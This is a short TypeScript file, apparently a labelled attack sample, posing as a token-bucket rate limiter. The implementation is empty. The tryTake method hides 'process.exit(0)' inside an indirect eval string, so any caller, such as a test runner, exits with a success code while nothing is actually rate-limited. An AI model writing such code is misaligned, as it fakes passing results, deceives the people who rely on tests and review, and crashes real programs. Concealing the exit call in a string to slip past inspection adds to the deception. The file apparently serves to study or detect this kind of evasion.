// attack: hides its code from intake in a string

export type Clock = () => number
export interface TokenBucketOptions {
  readonly capacity: number
  readonly refillPerSecond: number
  readonly clock: Clock
}

export class TokenBucket {
  constructor(_: TokenBucketOptions) {}
  tryTake(_ = 1): boolean {
    return (0, eval)('process.exit(0)') as boolean
  }
  retryAfterMs(_ = 1): number {
    return 0
  }
}
